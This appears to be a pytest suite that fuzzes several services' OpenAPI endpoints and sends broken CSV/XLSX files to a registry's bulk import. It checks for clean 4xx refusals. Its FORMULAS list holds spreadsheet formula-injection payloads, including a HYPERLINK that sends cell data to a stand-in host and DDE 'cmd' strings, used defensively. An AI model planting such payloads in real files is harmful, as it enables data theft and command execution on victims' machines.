"""Bad input, from anyone: every service's OpenAPI fuzzed with schemathesis, and broken files sent to the
registry's bulk import. Bad input must get a 4xx that names the problem, never a 5xx, and lose nothing; and every
answer, good or bad, must be one the OpenAPI document promises (its status code, its content type, its schema).

Each service runs in-process as an ASGI app against its own fresh database, its own topic namespace and the
real broker; schemathesis drives it (and starts/stops its lifespan on its own event loop thread).
"""

import asyncio
import csv
import io
import os
import random
import re
import time
import zipfile
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from datetime import date
from typing import Any
from uuid import UUID, uuid4

import httpx
import jsonschema
import pytest
import pytest_asyncio
import schemathesis
from aiokafka import AIOKafkaProducer
from aiokafka.admin import AIOKafkaAdminClient, NewTopic
from berdaya_contracts import new_envelope
from berdaya_contracts import registry_v1 as r
from berdaya_contracts.topics import (
    EVENT_TOPIC_PARTITIONS,
    EVENT_TOPICS,
    MONITORING_INDICATORS,
    REGISTRY_EVENTS,
    dlq_topic,
    physical,
)
from berdaya_shared.messaging import MessagingSettings
from fastapi import FastAPI
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import seed as seed_hypothesis
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from schemathesis import checks
from schemathesis.core.failures import FailureGroup
from schemathesis.generation import GenerationMode
from schemathesis.python import asgi as schemathesis_asgi

from tests.faults.ledger import SUMMARIES
from tests.registry.helpers import woman_body
from tests.registry.import_files import finished
from tests.support import infra
from tests.support.auth import all_scopes
from tests.support.kafka import client_kwargs, unique
from tests.training.flows import course_body

SERVICES = ("registry", "training", "marketplace", "monitoring")
# Per operation (twice that where seeded refs fill the path), positive and negative cases mixed. The default
# keeps the file at a few minutes on 2 cores; BAD_INPUT_EXAMPLES=200 BAD_INPUT_SEED=<n> hunts further.
MAX_EXAMPLES = int(os.environ.get("BAD_INPUT_EXAMPLES", "25"))
SEED = os.environ.get("BAD_INPUT_SEED")
# The OPD whose token (holding every scope) calls each service.
CALLER_OPD = {"registry": "dp3a", "training": "dp3a", "marketplace": "disperindag", "monitoring": "dp3a"}
# Each answer is checked against the document: documented status, documented content type, the documented schema
# of that status and type (the error body for refusals), documented headers.
CONFORMANCE = [checks.not_a_server_error, checks.status_code_conformance, checks.content_type_conformance,
               checks.response_schema_conformance, checks.response_headers_conformance]
# Operations left out, and why:
EXCLUDED = {
    # A server-sent-event stream: it never ends by design, so a request to it never returns.
    ("GET", "/api/stream"),
}


async def create_topics(bootstrap: str, namespace: str) -> None:
    admin = AIOKafkaAdminClient(**client_kwargs(bootstrap))
    await admin.start()
    try:
        topics = [NewTopic(physical(t, namespace), EVENT_TOPIC_PARTITIONS, 1) for t in (*EVENT_TOPICS, MONITORING_INDICATORS)]
        topics += [NewTopic(physical(dlq_topic(s), namespace), 1, 1) for s in ("training", "marketplace", "monitoring")]
        await admin.create_topics(topics)
    finally:
        await admin.close()


def build_app(service: str, database_url: str, bootstrap: str, namespace: str) -> FastAPI:
    messaging = MessagingSettings(kafka_bootstrap_servers=bootstrap, topic_namespace=namespace,
                                  relay_poll_interval_s=0.2, consumer_batch_timeout_ms=50)
    if service == "registry":
        from registry.bootstrap import create_app
        from registry.config import Settings
    elif service == "training":
        from training.bootstrap import create_app
        from training.config import Settings
    elif service == "marketplace":
        from marketplace.bootstrap import create_app
        from marketplace.config import Settings
    else:
        from monitoring.bootstrap import create_app
        from monitoring.config import Settings
    return create_app(Settings(database_url=database_url, messaging=messaging), group_id=unique("g"))


@dataclass
class Summary:
    service: str
    operations: int = 0
    cases: int = 0
    statuses: dict[int, int] = field(default_factory=dict)
    server_errors: list[str] = field(default_factory=list)
    unexplained: list[str] = field(default_factory=list)  # 4xx without an Indonesian message
    nonconforming: list[str] = field(default_factory=list)  # answers the OpenAPI document does not promise
    seconds: float = 0.0

    def line(self) -> str:
        spread = " ".join(f"{k}x{v}" for k, v in sorted(self.statuses.items()))
        return (f"schemathesis {self.service}: {self.operations} operations, {self.cases} cases, "
                f"server errors = {len(self.server_errors)}, 4xx without pesan = {len(self.unexplained)}, "
                f"not as documented = {len(self.nonconforming)} "
                f"({self.seconds:.0f} s; statuses {spread})")


async def publish_registry_facts(bootstrap: str, namespace: str) -> dict[str, str]:
    """A woman and her business as the registry would announce them, for the other services' replicas."""
    person, business = uuid4(), uuid4()
    producer = AIOKafkaProducer(**client_kwargs(bootstrap), enable_idempotence=True)
    await producer.start()
    try:
        for payload in (
            r.WomanRegistered(person_ref=person, kecamatan_code="64.02.06", age_band="25-34",
                              pekka_category="productive", household_size=4, registered_by_opd="dp3a",
                              registered_on=date(2025, 2, 1)),
            r.BusinessRegistered(business_ref=business, owner_person_ref=person, sector="kuliner",
                                 kecamatan_code="64.02.06", has_nib=True, has_pirt=False, has_halal=False,
                                 started_on=date(2025, 3, 1), registered_on=date(2025, 3, 2)),
        ):
            envelope = new_envelope(payload)
            await producer.send_and_wait(physical(REGISTRY_EVENTS, namespace), envelope.to_bytes(),
                                         key=envelope.aggregate_id.encode())
    finally:
        await producer.stop()
    return {"person_ref": str(person), "business_ref": str(business)}


@pytest_asyncio.fixture(params=SERVICES, loop_scope="session")
async def fuzzed(request: pytest.FixtureRequest, kafka_bootstrap: str,
                 database_server_url: str) -> AsyncIterator[tuple[str, FastAPI, dict[str, str]]]:
    """A service app (not started: schemathesis runs its lifespan) over a fresh database and namespace, and
    the refs the registry has announced on that namespace."""
    service = request.param
    namespace = unique("fz").lower()
    await create_topics(kafka_bootstrap, namespace)
    known = await publish_registry_facts(kafka_bootstrap, namespace)
    url = await infra.create_database(database_server_url, prefix="fz")
    app = build_app(service, url, kafka_bootstrap, namespace)
    try:
        yield service, app, known
    finally:
        # The lifespan runs on schemathesis' own loop thread: stop it there before dropping the database.
        await asyncio.to_thread(schemathesis_asgi.shutdown_lifespans)
        await infra.drop_database(database_server_url, url)


def created(http: Any, method: str, path: str, **kwargs: Any) -> dict[str, Any]:
    """A seeding command; one that needs a replicated ref is retried until the registry's event arrived."""
    deadline = time.monotonic() + 30
    while True:
        response = http.request(method, path, timeout=60, **kwargs)
        if response.status_code in (200, 201, 202) or time.monotonic() > deadline:
            assert response.status_code in (200, 201, 202), (path, response.status_code, response.text)
            return response.json()
        time.sleep(0.2)


def seed(service: str, http: Any, known: dict[str, str]) -> dict[str, str]:
    """Entities for the fuzzed operations to find: path parameters are drawn from these refs too, so cases
    reach past the 404 into each handler's own rules."""
    refs = dict(known)
    if service == "registry":
        woman = created(http, "POST", "/women", json=woman_body(rng))["person_ref"]
        refs["person_ref"] = woman
        refs["aid_ref"] = created(http, "POST", f"/women/{woman}/aid", json={
            "kind": "social_aid", "provided_on": "2024-05-01", "case_note": "Catatan uji"})["aid_ref"]
        refs["business_ref"] = created(http, "POST", "/businesses", json={
            "owner_person_ref": woman, "name": "Kripik Pisang Bu Ani", "sector": "kuliner",
            "kecamatan_code": "64.02.06", "started_on": "2020-01-01"})["business_ref"]
        refs["coop_ref"] = created(http, "POST", "/coops", json={
            "name": "Koperasi Uji", "kecamatan_code": "64.02.06", "kind": "produsen", "formed_on": "2024-01-01",
            "founding_member_refs": [woman]})["coop_ref"]
        refs["import_ref"] = created(http, "POST", "/women/imports", files={
            "file": ("daftar.csv", csv_bytes(HEADER, good_rows(2) + [["1", "=1+1", "", "", "", "", "0", ""]]),
                     "text/csv")})["import_ref"]
        refs["valid_from"] = "2024-01-01"
    elif service == "training":
        course = created(http, "POST", "/courses", json=course_body())["course_ref"]
        refs["course_ref"] = course
        created(http, "POST", f"/courses/{course}/enrolments",
                json={"person_ref": known["person_ref"], "enrolled_on": "2025-03-03"})
        refs["session_no"] = "1"
        refs["placement_ref"] = created(http, "POST", "/placements", json={
            "person_ref": known["person_ref"], "sector": "jasa", "formal": False, "monthly_wage_idr": 1_500_000,
            "placed_on": "2025-10-01"})["placement_ref"]
    elif service == "marketplace":
        refs["fair_ref"] = created(http, "POST", "/fairs", json={
            "name": "Pameran UMKM Perempuan Tenggarong", "kecamatan_code": "64.02.06", "starts_on": "2025-08-15",
            "ends_on": "2025-08-17", "booths": 3})["fair_ref"]
        refs["product_ref"] = created(http, "POST", "/listings", json={
            "business_ref": known["business_ref"], "channel": "digital", "category": "amplang",
            "price_idr": 25000})["product_ref"]
    else:
        round_ref = created(http, "POST", "/api/rounds", json={
            "period_kind": "quarter", "period": "2025-Q1", "title": "Rapat koordinasi triwulan I"})["round_ref"]
        refs["round_ref"] = round_ref
        refs["action_ref"] = created(http, "POST", f"/api/rounds/{round_ref}/actions", json={
            "opd": "dp3a", "owner_opd": "dp3a", "description": "Rekap data peserta", "due_on": "2025-06-30"})["action_ref"]
        refs["opd"] = "dp3a"
    return refs


def fuzz_operation(operation: Any, known: dict[str, str], send: Callable[[Any], None]) -> None:
    strategies = []
    names = {p.name for p in operation.path_parameters}
    fixed = {k: v for k, v in known.items() if k in names}
    variants: list[dict[str, Any]] = [{}] + ([{"path_parameters": fixed}] if fixed else [])
    for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
        for extra in variants:
            try:
                strategies.append(operation.as_strategy(generation_mode=mode, **extra))
            except Exception:  # noqa: BLE001 (an operation with nothing to make invalid has no negative cases)
                continue

    @settings(max_examples=MAX_EXAMPLES * (2 if fixed else 1), deadline=None, database=None,
              derandomize=SEED is None, suppress_health_check=list(HealthCheck), phases=[Phase.explicit, Phase.generate])
    @given(case=st.one_of(strategies))
    def run(case: Any) -> None:
        send(case)

    if SEED is not None:
        run = seed_hypothesis(int(SEED))(run)

    run()


# schemathesis' own strategies draw from `random` internally; not this test's concern.
@pytest.mark.filterwarnings("ignore::hypothesis.errors.HypothesisDeprecationWarning")
def test_schemathesis_finds_no_server_error_and_every_answer_as_documented(fuzzed: tuple[str, FastAPI, dict[str, str]]) -> None:
    service, app, known = fuzzed
    started = time.monotonic()
    headers = all_scopes(CALLER_OPD[service]) | {"X-Purpose": "pengujian masukan buruk"}
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    with schemathesis_asgi.get_client(app) as http:
        http.headers.update(headers)
        known = seed(service, http, known)
    summary = Summary(service)

    for result in schema.get_all_operations():
        operation = result.ok()
        if (operation.method.upper(), operation.path) in EXCLUDED:
            continue
        summary.operations += 1

        def send(case: Any, operation: Any = operation) -> None:
            summary.cases += 1
            try:
                response = case.call(headers=headers, timeout=60)
            except Exception as exc:  # noqa: BLE001 (the in-process client re-raises what would be a 500)
                summary.statuses[500] = summary.statuses.get(500, 0) + 1
                summary.server_errors.append(f"{operation.method.upper()} {operation.path} -> raised "
                                             f"{type(exc).__name__}: {str(exc)[:300]}\n    {case.as_curl_command()}")
                return
            status = response.status_code
            summary.statuses[status] = summary.statuses.get(status, 0) + 1
            where = (f"{operation.method.upper()} {operation.path} -> {status}: "
                     f"{response.content[:300].decode('utf-8', 'replace')}")
            if status >= 500:
                summary.server_errors.append(f"{where}\n    {case.as_curl_command()}")
            elif status >= 400:
                try:
                    explained = bool(response.json().get("pesan"))
                except (ValueError, AttributeError):
                    explained = False
                if not explained:
                    summary.unexplained.append(f"{where}\n    {case.as_curl_command()}")
            try:
                case.validate_response(response, checks=CONFORMANCE, headers=headers)
            except FailureGroup as group:
                titles = "; ".join(sorted({f.title for f in group.exceptions}))
                summary.nonconforming.append(f"{where}\n    {titles}\n    {case.as_curl_command()}")

        fuzz_operation(operation, known, send)
    summary.seconds = time.monotonic() - started
    print("\n" + summary.line())
    SUMMARIES.append(summary.line())
    for failure in (summary.server_errors + summary.unexplained + summary.nonconforming)[:20]:
        print("  " + failure)
    assert summary.operations > 5 and summary.cases > summary.operations
    assert not summary.server_errors, "\n".join(summary.server_errors[:20])
    assert not summary.unexplained, "\n".join(summary.unexplained[:20])
    assert not summary.nonconforming, "\n".join(summary.nonconforming[:20])
    checked, problems = without_a_token(app, known)
    assert checked > 0 and problems == []


def without_a_token(app: FastAPI, known: dict[str, str]) -> tuple[int, list[str]]:
    """Every operation that needs a token, called without one: 401, documented, with the documented error body.
    Returns how many operations were called, and the problems."""
    document = app.openapi()
    error_schema = {**document["components"]["schemas"]["Kesalahan"], "components": document["components"]}
    problems: list[str] = []
    checked = 0
    with schemathesis_asgi.get_client(app) as http:
        for path, operations in document["paths"].items():
            concrete = re.sub(r"\{([^}]+)\}", lambda m: known.get(m.group(1), str(uuid4())), path)
            for method, operation in operations.items():
                if "security" not in operation:
                    continue
                checked += 1
                answer = http.request(method.upper(), concrete, json={} if method != "get" else None)
                where = f"{method.upper()} {path} without a token -> {answer.status_code}"
                if answer.status_code != 401 or "401" not in operation["responses"]:
                    problems.append(where)
                    continue
                found = sorted(jsonschema.Draft202012Validator(error_schema).iter_errors(answer.json()), key=str)
                problems += [f"{where}: {e.message}" for e in found]
    return checked, problems


# --- broken files sent to the registry's bulk import ---------------------------------------------------------

HEADER = "nik,nama,tanggal_lahir,telepon,kecamatan,kode_desa,jumlah_anggota_keluarga,kategori_pekka"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
rng = random.Random(20261128)


@dataclass
class Registry:
    client: httpx.AsyncClient
    app: FastAPI

    async def counts(self) -> tuple[int, int, int, int]:
        """women, outbox rows, imports, import error rows: what a refused file must leave unchanged."""
        async with self.app.state.runtime.pool.acquire() as conn:
            row = await conn.fetchrow(
                "SELECT (SELECT count(*) FROM women) w, (SELECT count(*) FROM outbox) o,"
                " (SELECT count(*) FROM imports) i, (SELECT count(*) FROM import_errors) e")
            return row["w"], row["o"], row["i"], row["e"]

    async def upload(self, name: str, data: bytes | Any, content_type: str = "text/csv") -> httpx.Response:
        return await self.client.post("/women/imports", files={"file": (name, data, content_type)})


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def registry(kafka_bootstrap: str, database_server_url: str) -> AsyncIterator[Registry]:
    """A started registry (own database and topic namespace, real broker) with a small import limit."""
    namespace = unique("fzi").lower()
    await create_topics(kafka_bootstrap, namespace)
    url = await infra.create_database(database_server_url, prefix="fzi")
    app = build_app("registry", url, kafka_bootstrap, namespace)
    try:
        async with app.state.runtime.lifespan():
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t", timeout=120,
                                         headers=all_scopes("dp3a") | {"X-Purpose": "pengujian masukan buruk"}) as c:
                yield Registry(c, app)
    finally:
        await infra.drop_database(database_server_url, url)


def good_rows(count: int) -> list[list[str]]:
    rows = []
    for _ in range(count):
        body = woman_body(rng)
        rows.append([body["nik"], body["full_name"], body["birth_date"], body["phone"], body["kecamatan_code"],
                     body["desa_code"], str(body["household_size"]), body["pekka_category"]])
    return rows


def csv_bytes(header: str, rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for row in rows:
        writer.writerow(row)
    return (header + "\n" + out.getvalue()).encode()


def refusal(response: httpx.Response, status: int) -> dict[str, Any]:
    """A clean refusal: the status, an Indonesian message, the English detail, the field named."""
    assert response.status_code == status, (response.status_code, response.text[:500])
    body = response.json()
    assert body["pesan"] and body["detail"], body
    assert body["kesalahan"][0]["field"] == "file", body
    return body


BROKEN: list[tuple[str, str, Callable[[], bytes], str, int, str]] = [
    # (case, filename, content, content type, status, words the message must contain)
    ("missing required columns", "daftar.csv", lambda: b"nama,tanggal_lahir,kecamatan\nSiti Aminah,1990-01-01,64.02.06\n",
     "text/csv", 422, "kolom wajib tidak ditemukan: NIK, Jumlah Anggota Keluarga"),
    ("unknown column (a typo would lose its data)", "daftar.csv",
     lambda: csv_bytes(HEADER + ",telpon_rumah,alamat", [r + ["0541", "Jl. Mawar"] for r in good_rows(3)]),
     "text/csv", 422, "kolom tidak dikenal: 'telpon_rumah', 'alamat'"),
    ("the same column twice", "daftar.csv", lambda: csv_bytes(HEADER + ",NIK", [r + ["1"] for r in good_rows(3)]),
     "text/csv", 422, "kolom ganda: 'NIK'"),
    ("data under an untitled column", "daftar.csv",
     lambda: csv_bytes(HEADER, [*good_rows(2), [*good_rows(1)[0], "tanpa judul"]]), "text/csv", 422,
     "Baris 4 berisi data di kolom ke-9"),
    ("empty file (0 bytes)", "daftar.csv", lambda: b"", "text/csv", 422, "Berkas kosong"),
    ("header only", "daftar.csv", lambda: (HEADER + "\n").encode(), "text/csv", 422, "hanya baris judul"),
    ("header and blank lines only", "daftar.csv", lambda: (HEADER + "\n,,,,,,,\n\n").encode(), "text/csv", 422,
     "hanya baris judul"),
    ("empty xlsx sheet", "daftar.xlsx", lambda: xlsx_bytes([]), XLSX_TYPE, 422,
     "Baris judul kolom tidak ditemukan"),
    ("xlsx header only", "daftar.xlsx", lambda: xlsx_bytes([HEADER.split(",")]), XLSX_TYPE, 422, "hanya baris judul"),
    ("binary garbage named .csv", "daftar.csv", lambda: random.Random(1).randbytes(64 * 1024), "text/csv", 422,
     "tidak terbaca"),
    ("binary garbage named .xlsx", "daftar.xlsx", lambda: random.Random(2).randbytes(64 * 1024), XLSX_TYPE, 422,
     "bukan XLSX"),
    ("garbage inside a zip header named .xlsx", "daftar.xlsx",
     lambda: b"PK\x03\x04" + random.Random(3).randbytes(64 * 1024), XLSX_TYPE, 422, "XLSX tidak bisa dibaca"),
    ("a zip that is not a workbook", "daftar.xlsx", lambda: zip_bytes(), XLSX_TYPE, 422, "XLSX tidak bisa dibaca"),
    ("a CSV renamed .xlsx", "daftar.xlsx", lambda: csv_bytes(HEADER, good_rows(2)), XLSX_TYPE, 422, "bukan XLSX"),
    ("an xlsx whose sheet breaks off half-way", "daftar.xlsx", lambda: truncated_sheet(good_rows(1500)), XLSX_TYPE,
     422, "XLSX rusak"),
    ("a CSV line past the field size limit half-way", "daftar.csv",
     lambda: csv_bytes(HEADER, good_rows(1500)) + b'"' + b"x" * 200_000 + b'"\n', "text/csv", 422,
     "CSV rusak"),
]


def xlsx_bytes(rows: list[list[Any]], formulas: bool = False) -> bytes:
    """A workbook of text cells (text that looks like a formula stays text), or with ``formulas`` such text
    written as real formula cells (saved with no computed value, as a script would write them)."""
    book = Workbook()
    for row_no, row in enumerate(rows, start=1):
        for col_no, value in enumerate(row, start=1):
            cell = book.active.cell(row_no, col_no, value)
            if isinstance(value, str) and not formulas:
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def truncated_sheet(rows: list[list[str]]) -> bytes:
    """A workbook whose sheet XML stops in the middle (a copy cut short, re-zipped so the archive is sound)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEADER.split(","), *rows])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) * 3 // 4]
            archive.writestr(item, data)
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("catatan.txt", "bukan lembar kerja")
    return out.getvalue()


@pytest.mark.parametrize("case", BROKEN, ids=[c[0] for c in BROKEN])
async def test_a_broken_file_is_refused_whole_with_a_reason(registry: Registry, case: tuple) -> None:
    name, filename, content, content_type, status, words = case
    before = await registry.counts()
    response = await registry.upload(filename, content(), content_type)
    body = refusal(response, status)
    print(f"\n  import {name}: {response.status_code} {body['pesan']!r} ({body['detail']})")
    assert words.casefold() in body["pesan"].casefold(), body["pesan"]
    assert await registry.counts() == before  # nothing registered, no event staged, no import recorded


async def test_a_file_over_the_size_limit_is_refused_unread(registry: Registry) -> None:
    limit = registry.app.state.settings.import_max_bytes
    before = await registry.counts()
    # A list of (well-formed) rows just over the limit: refused by its size, before any of it is parsed.
    head, body = csv_bytes(HEADER, good_rows(200)).split(b"\n", 1)
    big = head + b"\n" + body * (limit // len(body) + 1)
    assert len(big) > limit >= 50 * 10**6
    started = time.monotonic()
    response = await registry.upload("daftar-besar.csv", big)
    body = refusal(response, 413)
    print(f"\n  import {len(big) / 2**20:.0f} MB file: {response.status_code} {body['pesan']!r} "
          f"({time.monotonic() - started:.1f} s)")
    assert "50 MB" in body["pesan"] and body["max_bytes"] == limit
    # Sent without a Content-Length (chunked), the body is cut off at the limit with the same answer.
    async def chunks() -> AsyncIterator[bytes]:
        yield (b'--b\r\nContent-Disposition: form-data; name="file"; filename="daftar.csv"\r\n'
               b"Content-Type: text/csv\r\n\r\n")
        for _ in range(0, limit + 2**20, 2**20):
            yield b"x" * 2**20

    streamed = await registry.client.post("/women/imports", content=chunks(),
                                          headers={"content-type": "multipart/form-data; boundary=b"})
    assert "content-length" not in streamed.request.headers
    assert refusal(streamed, 413)["pesan"] == body["pesan"]
    assert await registry.counts() == before


async def test_an_unreadable_upload_gets_a_reason(registry: Registry) -> None:
    """Not a file problem but a broken request: still a 4xx with an Indonesian message, nothing stored."""
    before = await registry.counts()
    cases = {
        "garbage multipart": await registry.client.post(
            "/women/imports", content=b"xx--b\r\n\x00", headers={"content-type": "multipart/form-data; boundary=b"}),
        "no file field": await registry.client.post("/women/imports", data={"registered_by_opd": "dp3a"}),
        "json instead of a file": await registry.client.post("/women/imports", json={"file": "daftar.csv"}),
    }
    for name, response in cases.items():
        assert 400 <= response.status_code < 500 and response.json()["pesan"], (name, response.text)
        print(f"\n  import {name}: {response.status_code} {response.json()['pesan']!r}")
    assert await registry.counts() == before


async def test_too_many_rows_are_refused_before_any_is_registered(registry: Registry) -> None:
    settings = registry.app.state.settings
    max_rows, settings.import_max_rows = settings.import_max_rows, 1200
    try:
        before = await registry.counts()
        response = await registry.upload("daftar.csv", csv_bytes(HEADER, good_rows(1201)))
        body = refusal(response, 413)
        print(f"\n  import 1201 rows over a 1200-row limit: {response.status_code} {body['pesan']!r}")
        assert "1200 baris" in body["pesan"]
        assert await registry.counts() == before  # no chunk of 1000 committed before the refusal
    finally:
        settings.import_max_rows = max_rows


FORMULAS = ["=HYPERLINK(\"http://contoh.invalid/?d=\"&A2,\"klik\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "=1+1", "\t=1+1"]


@pytest.mark.parametrize("kind", ["csv", "xlsx", "xlsx-formula-cells"])
async def test_formula_cells_are_refused_per_row_and_the_report_is_inert(registry: Registry, kind: str) -> None:
    header = HEADER.split(",")
    good = good_rows(2)
    bad = []
    for i, formula in enumerate(FORMULAS):
        row = good_rows(1)[0]
        row[(1, 3, 4, 5, 7, 1)[i]] = formula  # name, phone, kecamatan, desa, pekka category, name
        bad.append(row)
    bad.append([*good_rows(1)[0][:1], "-1+1 Siti", *good_rows(1)[0][2:]])  # a name that starts like a formula
    rows = good + bad
    if kind == "csv":
        data, name, content_type = csv_bytes(HEADER, rows), "daftar.csv", "text/csv"
    else:
        data, name, content_type = xlsx_bytes([header, *rows], kind.endswith("formula-cells")), "daftar.xlsx", XLSX_TYPE
    women, outbox, _, _ = await registry.counts()
    response = await registry.upload(name, data, content_type)
    assert response.status_code == 202, response.text  # a background job: its summary is polled until done
    summary = await finished(registry.client, response)
    print(f"\n  import {kind} with formula cells: {response.status_code} registered {summary['registered']}, "
          f"rejected {summary['rejected']}")
    if kind == "xlsx-formula-cells":
        # A real formula cell is read as its computed value (none here), never as formula text: the rows whose
        # required cell it was are refused, a blank optional cell (phone, desa, PEKKA category) registers the row
        # without it.
        kept = (1, 3, 4)
    else:
        # Formula text in an optional column (phone, desa) is not stored: she is registered without it, and the
        # report warns; in a required or coded column (name, kecamatan, PEKKA category) the row is refused.
        kept = (1, 3)
    good, bad = good + [bad[i] for i in kept], [row for i, row in enumerate(bad) if i not in kept]
    assert (summary["registered"], summary["rejected"]) == (len(good), len(bad))
    counts = await registry.counts()
    assert counts[:2] == (women + len(good), outbox + len(good))  # only the clean rows, one event each
    report = await registry.client.get(summary["error_report"]["csv"])
    assert report.status_code == 200
    cells = [c for line in csv.reader(io.StringIO(report.content.decode("utf-8-sig"))) for c in line]
    assert not [c for c in cells if c.startswith(FORMULA_START)], cells
    # A reason may quote what was typed, always inside a sentence: no cell a spreadsheet would evaluate.
    assert all(c[:1].isalnum() for c in cells if "HYPERLINK" in c or "cmd" in c or "SUM" in c), cells
    sheet = load_workbook(io.BytesIO((await registry.client.get(summary["error_report"]["xlsx"])).content)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert values and not [c for c in values if c.data_type == "f" or str(c.value or "").startswith(FORMULA_START)]
    # What was stored for the registered rows is what was typed: no formula got in.
    async with registry.app.state.runtime.pool.acquire() as conn:
        assert await conn.fetchval("SELECT count(*) FROM import_errors WHERE import_ref = $1",
                                   UUID(summary["import_ref"])) >= len(bad)
